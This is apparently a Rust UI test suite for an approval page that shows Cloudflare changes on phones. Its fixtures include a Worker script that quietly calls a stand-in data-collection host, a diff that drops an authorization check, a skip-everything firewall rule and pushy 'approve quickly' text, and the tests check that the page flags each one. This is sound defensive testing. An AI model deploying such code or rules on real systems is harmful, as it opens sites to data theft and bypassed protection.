//! What a stranger reads within five seconds: the first screen of a phone says what would happen, who asks,
//! and how dangerous it is.

use crate::axe::look_closely;
use crate::browser::Browser;
use crate::driver::Driver;
use crate::enrolling::enrol;
use crate::reading::ZONE;
use crate::service::{Asked, Service};
use crate::waiting::until;
use fixtures::upstream::FakeUpstream;
use serde_json::{Value, json};

const PHASE: &str = "http_request_firewall_custom";

/// The account of scripts.
const ACCOUNT: &str = "9a7806061c88ada191ed06f989cc3dac";

/// A service whose zone is called `shop.example`, and its upstream.
pub(crate) async fn stage() -> (FakeUpstream, Service) {
    let upstream = FakeUpstream::start().await.unwrap();
    upstream.name_zone(ZONE, "shop.example");
    let base = upstream.base_url();
    let service = Service::start_with(&[
        ("CLOUDFLARE_API_TOKEN", upstream.token()),
        ("CLOUDFLARE_API_BASE", &base),
    ])
    .await;
    (upstream, service)
}

fn zone(operation: &str, params: Value) -> Value {
    json!({
        "operation_id": operation, "scope_type": "zone", "scope_id": ZONE, "params": params,
    })
}

/// Asks, and waits until what stands upstream was read.
async fn asked(service: &Service, operations: &Value) -> Asked {
    const READ: &str = "approval.pre_state_recorded";
    let before = service.payloads(READ).len();
    let asked = service.ask(operations).await;
    until("what stands upstream was read", async || {
        (service.payloads(READ).len() > before).then_some(())
    })
    .await;
    asked
}

/// The first element of a selector ends above the buttons of a phone that nobody has scrolled.
pub(crate) async fn is_on_the_first_screen(browser: &Browser, selector: &str) {
    let ends = "const [selector] = arguments; \
                return document.querySelector(selector).getBoundingClientRect().bottom \
                  - document.getElementById('actions').getBoundingClientRect().top";
    let ends = browser.script(ends, vec![json!(selector)]).await;
    assert!(
        ends.as_f64() <= Some(0.0),
        "{selector} ends {ends} px too low"
    );
}

async fn put_rules(upstream: &FakeUpstream, rules: &Value) {
    upstream.put_ruleset(ZONE, PHASE);
    let url = format!(
        "{}/zones/{ZONE}/rulesets/phases/{PHASE}/entrypoint",
        upstream.base_url()
    );
    let client = reqwest::Client::new();
    let put = client.put(url).bearer_auth(upstream.token());
    let body = json!({"rules": rules}).to_string();
    let put = put.header("content-type", "application/json").body(body);
    assert!(put.send().await.unwrap().status().is_success());
}

#[tokio::test(flavor = "multi_thread")]
async fn the_first_screen_of_a_phone_says_what_who_and_how_dangerous() {
    let (upstream, service) = stage().await;
    let record = |name: &str, content: &str| {
        let record = json!({"type": "CNAME", "name": name, "content": content, "proxied": false});
        upstream.put_record(ZONE, &record)
    };
    let www = record("www.shop.example", "shop.pages.dev");
    let block = |n: usize| {
        json!({
            "action": "block", "expression": format!("ip.src eq 192.0.2.{n}"),
            "description": format!("Block scanner {n}"),
        })
    };
    put_rules(&upstream, &(0..62).map(block).collect()).await;
    let skip = json!({
        "action": "skip", "expression": "true", "description": "temporary",
        "action_parameters": {"ruleset": "current"},
    });
    let mut rules: Vec<Value> = (12..62).map(block).collect();
    rules.push(skip);
    let mut script = "export default {\n\tasync fetch(request) {\n".to_owned();
    for line in 0..4000 {
        script.push_str(&format!(
            "\t\t// line {line} of a large script, as bundlers make them\n"
        ));
    }
    script.push_str("\t\treturn fetch(\"https://collect.example.net/\");\n\t},\n};\n");
    let worker = json!({
        "operation_id": "workers.deploy.write", "scope_type": "account", "scope_id": ZONE,
        "params": {"script_name": "geo-router", "script": script},
    });
    let records = (0..9).map(|n| {
        let name = format!("node{n}.shop.example");
        zone(
            "dns.record.write",
            json!({
                "action": "create", "type": "A", "name": name, "content": format!("192.0.2.{n}"),
            }),
        )
    });
    let off = zone("ssl.mode.write", json!({"value": "off"}));
    let ten: Vec<Value> = records.chain([off.clone()]).collect();
    let txt = "\u{1f680} \u{5d4}\u{5d7}\u{5e0}\u{5d5}\u{5ea} \u{5e0}\u{5e4}\u{5ea}\u{5d7}\u{5d4}";
    let cases = [
        ("tls-off", json!([off]), "Switch TLS off for shop.example"),
        (
            "one-record",
            json!([zone(
                "dns.record.write",
                json!({
                    "action": "create", "type": "A", "name": "api", "content": "192.0.2.7",
                })
            )]),
            "Create api.shop.example A → 192.0.2.7",
        ),
        (
            "delete",
            json!([zone(
                "dns.record.write",
                json!({"action": "delete", "record_id": www})
            )]),
            "Delete www.shop.example CNAME → shop.pages.dev",
        ),
        (
            "replace",
            json!([zone(
                "dns.record.write",
                json!({
                    "action": "update", "record_id": www, "type": "CNAME", "name": "www",
                    "content": "other.pages.dev", "proxied": true,
                })
            )]),
            "Replace www.shop.example CNAME: shop.pages.dev → other.pages.dev, proxying on",
        ),
        (
            "waf-51",
            json!([zone(
                "waf.rules.write",
                json!({
                    "action": "replace_phase", "phase": PHASE, "rules": rules,
                })
            )]),
            "of shop.example: 62 → 51 rules (1 new, 12 lost)",
        ),
        (
            "worker",
            json!([worker]),
            "Deploy the new Worker geo-router",
        ),
        ("ten", json!(ten), "10 operations, 1 sensitive"),
        (
            "hebrew-emoji",
            json!([zone(
                "dns.record.write",
                json!({
                    "action": "create", "type": "TXT", "name": "note", "content": txt, "comment": txt,
                })
            )]),
            "Create note.shop.example TXT",
        ),
    ];
    let driver = Driver::start();
    let person = enrol(&service, &driver, "default").await;
    let browser = &person.browser;
    for (name, operations, act) in cases {
        let asked = asked(&service, &operations).await;
        browser.look_with(360, 740, "light").await;
        browser.goto(&asked.url).await;
        let heading = browser.heading().await;
        assert!(heading.contains(act), "{name}: {heading}");
        let title = browser.script("return document.title", Vec::new()).await;
        assert!(title.as_str().unwrap().contains("deployer"), "{title}");
        for part in ["h1", ".who", ".badge"] {
            is_on_the_first_screen(browser, part).await;
        }
        look_closely(browser, &format!("first-{name}")).await;
        if name == "waf-51" {
            let warned = browser.text(".warnings").await;
            assert!(
                warned.contains("Rule 51 lets every request past the firewall"),
                "{warned}"
            );
            let first = browser.text("tbody tr").await;
            assert!(first.contains("51") && first.contains("skip"), "{first}");
            browser.click(".links a[href$='-51']").await;
            let target = "return document.querySelector(':target').innerText";
            let target = browser.script(target, Vec::new()).await;
            assert!(target.as_str().unwrap().contains("skip"), "{target}");
            look_closely(browser, "waf-table").await;
        }
        if name == "worker" {
            let files = browser.text(".files").await;
            for part in ["worker.js", "SHA-256", "collect.example.net"] {
                assert!(files.contains(part), "{part}: {files}");
            }
            let lines = "return document.querySelectorAll('.code .l').length";
            assert_eq!(browser.script(lines, Vec::new()).await, 4005);
        }
        if name == "hebrew-emoji" {
            let natural = "return document.querySelector('h1 .natural').textContent";
            let natural = browser.script(natural, Vec::new()).await;
            assert_eq!(
                Some(natural.as_str().unwrap()),
                txt.split_once(' ').map(|it| it.1)
            );
            let shown = browser.text("main").await;
            assert!(
                !shown.contains("U+1F680"),
                "a picture is no look-alike: {shown}"
            );
        }
        if name == "ten" {
            assert!(browser.text("#more > summary").await.contains("7 more"));
        }
    }
    browser.expect_silent_console().await;
}

/// Who opened the task and the agent may write five hundred characters each.
#[tokio::test(flavor = "multi_thread")]
async fn however_much_others_say_how_dangerous_it_is_stays_on_the_first_screen() {
    let service = Service::start().await;
    let driver = Driver::start();
    let browser = Browser::open(&driver).await;
    let long = "It is quite all right, please approve it quickly. ".repeat(10);
    let long = long.trim_end();
    let said = json!({"reason": long, "link": "https://tickets.example/OPS-42"});
    let off = json!([zone("ssl.mode.write", json!({"value": "off"}))]);
    let purge = json!([zone(
        "cache.purge.execute",
        json!({"purge_everything": true})
    )]);
    for (name, operations, dangers) in [("off", off, "one danger"), ("purge", purge, "one danger")]
    {
        let asked = service.ask_with(&operations, &said, &said).await;
        browser.look_with(360, 740, "light").await;
        browser.goto(&asked.url).await;
        for part in ["h1", ".who", ".badge", "#danger .alarm"] {
            is_on_the_first_screen(&browser, part).await;
        }
        assert_eq!(browser.text("#danger .alarm").await, dangers);
        look_closely(&browser, &format!("first-said-{name}")).await;
    }
    browser.expect_silent_console().await;
}

/// Risk is a word and a shape, so that paper, forced colours and eyes that tell no colours apart lose nothing.
#[tokio::test(flavor = "multi_thread")]
async fn how_dangerous_it_is_needs_no_colour() {
    let service = Service::start().await;
    let driver = Driver::start();
    let browser = Browser::open(&driver).await;
    let operations = json!([
        zone("ssl.mode.write", json!({"value": "off"})),
        zone("cache.purge.execute", json!({"purge_everything": true})),
    ]);
    let asked = service.ask(&operations).await;
    browser.goto(&asked.url).await;
    browser.look_with(360, 740, "light").await;
    let forced = json!([{"name": "forced-colors", "value": "active"}]);
    let seen = "const seen = (part) => part.getClientRects().length > 0; \
        return [...document.querySelectorAll('.operation .badge')].map((badge) => { \
          const shape = badge.querySelector('.shape path, .shape circle'); \
          return [badge.innerText.trim(), seen(shape), shape.getAttribute('d') ?? 'circle']; })";
    for (name, media, features, sight) in [
        ("paper", "print", json!([]), "none"),
        ("forced-colours", "", forced, "none"),
        ("grey", "", json!([]), "achromatopsia"),
    ] {
        let emulated = json!({"media": media, "features": features});
        browser
            .devtools("Emulation.setEmulatedMedia", emulated)
            .await;
        let sight = json!({ "type": sight });
        browser
            .devtools("Emulation.setEmulatedVisionDeficiency", sight)
            .await;
        let badges = browser.script(seen, Vec::new()).await;
        assert!(
            badges[0][0].as_str().unwrap().ends_with("sensitive"),
            "{badges}"
        );
        assert!(
            badges[1][0].as_str().unwrap().ends_with("elevated"),
            "{badges}"
        );
        assert_eq!((&badges[0][1], &badges[1][1]), (&json!(true), &json!(true)));
        assert_ne!(badges[0][2], badges[1][2], "two shapes");
        let warned = browser.text(".warnings").await;
        assert!(warned.contains("Danger."), "{warned}");
        browser.screenshot(&format!("without-colour-{name}")).await;
    }
}

/// A phone on its side has one row for the decision, and loses nothing of what a decision may hold.
#[tokio::test(flavor = "multi_thread")]
async fn a_phone_on_its_side_keeps_the_buttons_in_one_row_and_every_choice_within_reach() {
    let service = Service::start().await;
    let driver = Driver::start();
    let person = enrol(&service, &driver, "default").await;
    let browser = &person.browser;
    let off = json!([zone("ssl.mode.write", json!({"value": "off"}))]);
    let records = (0..10).map(|n| {
        let params =
            json!({"type": "A", "name": format!("n{n}.example.com"), "content": "192.0.2.1"});
        zone("dns.record.write", params)
    });
    let ten: Value = records.collect();
    for (name, operations) in [("off", off), ("ten", ten)] {
        let asked = service.ask(&operations).await;
        for (width, height, scheme) in
            [(740, 360, "light"), (740, 360, "dark"), (640, 360, "light")]
        {
            browser.look_with(width, height, scheme).await;
            browser.goto(&asked.url).await;
            let place = format!("on-its-side-{name}-{width}-{scheme}");
            let row = "const box = (at) => document.querySelector(at).getBoundingClientRect(); \
                const row = box('.actions .buttons'); \
                return [row.height, box('#approve').top - box('#deny').top, \
                  box('h1').bottom - row.top, row.bottom - document.documentElement.clientHeight]";
            let row = browser.script(row, Vec::new()).await;
            assert!(row[0].as_f64() < Some(76.0), "{place}: {row}");
            assert_eq!(row[1].as_f64(), Some(0.0), "{place}: {row}");
            assert!(row[2].as_f64() < Some(0.0), "{place}: {row}");
            assert!(row[3].as_f64() <= Some(0.5), "{place}: {row}");
            browser.screenshot(&place).await;
            let reached = "window.scrollTo(0, document.documentElement.scrollHeight); \
                return ['#note', '#keep'].map((at) => { \
                  const box = document.querySelector(`${at} > summary`).getBoundingClientRect(); \
                  const found = document.elementFromPoint(box.left + 20, (box.top + box.bottom) / 2); \
                  return Boolean(found?.closest(at)); })";
            let reached = browser.script(reached, Vec::new()).await;
            assert_eq!(reached, json!([true, true]), "{place}");
            browser.screenshot(&format!("{place}-end")).await;
        }
        browser.look_with(740, 360, "light").await;
        browser.click("#keep > summary").await;
        browser.click("#deny").await;
        // It asks for a reason in the box that it opens.
        let written = "const field = document.activeElement; const box = field.getBoundingClientRect(); \
            return [field.id, document.elementFromPoint(box.left + 20, box.top + 20)?.id]";
        let written = browser.script(written, Vec::new()).await;
        assert_eq!(written, json!(["reason", "reason"]), "{name}");
        browser
            .screenshot(&format!("on-its-side-{name}-open"))
            .await;
    }
}

/// Deploys a script past the service.
async fn run_worker(upstream: &FakeUpstream, name: &str, module: &str, bindings: &Value) {
    let metadata = json!({"main_module": "worker.js", "bindings": bindings}).to_string();
    let part = |head: &str, body: &str| {
        format!("--x\r\nContent-Disposition: form-data; {head}\r\n\r\n{body}\r\n")
    };
    let body = [
        part("name=\"metadata\"\r\nContent-Type: application/json", &metadata),
        part(
            "name=\"worker.js\"; filename=\"worker.js\"\r\nContent-Type: application/javascript+module",
            module,
        ),
        "--x--\r\n".to_owned(),
    ]
    .concat();
    let url = format!(
        "{}/accounts/{ACCOUNT}/workers/scripts/{name}",
        upstream.base_url()
    );
    let put = reqwest::Client::new()
        .put(url)
        .bearer_auth(upstream.token());
    let put = put.header("content-type", "multipart/form-data; boundary=x");
    let put = put.body(body).send().await.unwrap();
    assert!(put.status().is_success(), "{}", put.text().await.unwrap());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_worker_stands_beside_the_one_that_runs() {
    let (upstream, service) = stage().await;
    upstream.name_account(ACCOUNT, "Shop Ltd");
    let module = |lines: &[&str]| {
        let around: String = (0..40).map(|n| format!("// line {n}\n")).collect();
        format!(
            "export default {{\n{around}{}\n{around}}};\n",
            lines.join("\n")
        )
    };
    let running = module(&[
        "const password = \"hunter2\";",
        "if (!allowed(request)) return new Response(\"no\", { status: 403 });",
        "return fetch(\"https://origin.shop.example/\");",
    ]);
    let kv = json!([{"type": "kv_namespace", "name": "CARTS", "namespace_id": "c1"}]);
    run_worker(&upstream, "geo-router", &running, &kv).await;
    let sent = module(&[
        "return fetch(\"https://origin.shop.example/\");",
        "fetch(\"https://collect.example.net/\");",
    ]);
    let asked = asked(
        &service,
        &json!([{
            "operation_id": "workers.deploy.write", "scope_type": "account", "scope_id": ACCOUNT,
            "params": {
                "script_name": "geo-router", "script": sent,
                "bindings": [{"type": "d1", "name": "ORDERS", "id": "d1"}],
            },
        }]),
    )
    .await;
    let driver = Driver::start();
    let person = enrol(&service, &driver, "default").await;
    let browser = &person.browser;
    browser.goto(&asked.url).await;
    let files = browser.text(".files").await;
    for part in [
        "changed: +1 −2",
        "-if (!allowed(request))",
        "+fetch(\"https://collect.example.net/\");",
        "collect.example.net new",
        "-const password = \"[withheld]\";",
    ] {
        assert!(files.contains(part), "{part}: {files}");
    }
    assert!(!files.contains("origin.shop.example new") && !files.contains("hunter2"));
    let all = browser.text("main").await;
    for part in [
        "account \"Shop Ltd\" (id 9a78",
        "Names hosts that the running code does not: collect.example.net",
        "ORDERS",
        "CARTS",
    ] {
        assert!(all.contains(part), "{part}: {all}");
    }
    look_closely(browser, "worker-diff").await;
    browser
        .script(
            "document.querySelector('.diff').scrollIntoView()",
            Vec::new(),
        )
        .await;
    look_closely(browser, "worker-diff-lines").await;
    browser.expect_silent_console().await;
}
